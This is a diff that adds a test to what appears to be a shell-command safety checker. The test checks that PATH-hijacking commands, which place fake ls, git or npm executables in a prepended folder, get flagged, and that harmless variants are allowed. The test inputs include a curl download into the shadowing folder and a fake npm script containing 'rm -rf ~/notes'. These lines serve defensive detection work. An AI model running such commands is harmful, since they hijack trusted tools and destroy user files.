@@ -147,3 +147,30 @@ test("an installer filling its own folder, or a command after PATH's change, sta
     }
   });
 });
+
+test("a command's name put in a folder after PATH's change asks; a new name stays quiet", () => {
+  withTools((judge) => {
+    for (const [c, shell] of [
+      ['export PATH=$PWD/tools:$PATH; cp /tmp/x tools/ls'],
+      ['export PATH=$PWD/tools:$PATH && curl -o tools/git https://example.com/x'],
+      ["export PATH=$PWD/tools:$PATH; echo 'rm -rf ~/notes' > tools/npm; chmod +x tools/npm"],
+      ['PATH=./tools:$PATH; cp /tmp/x tools/ls'],
+      ['path+=($PWD/tools); cp /tmp/x tools/git', 'zsh'],
+    ] as const) {
+      const r = judge(c, shell);
+      assert.ok(
+        r.findings.some((f) => f.id === 'autorun.path-shadow'),
+        `${c}: ${ids(r)}`,
+      );
+    }
+    for (const c of [
+      'export PATH=$PWD/tools:$PATH && go build -o tools/app ./cmd/app',
+      'export PATH=$PWD/tools:$PATH && echo hi > tools/notes.txt',
+      'export PATH=$PWD/tools:$PATH; cp /tmp/x tools/mytool',
+      'cp /tmp/x tools/ls',
+    ]) {
+      const r = judge(c);
+      assert.equal(r.decision, 'allow', `${c}: ${ids(r)}`);
+    }
+  });
+});
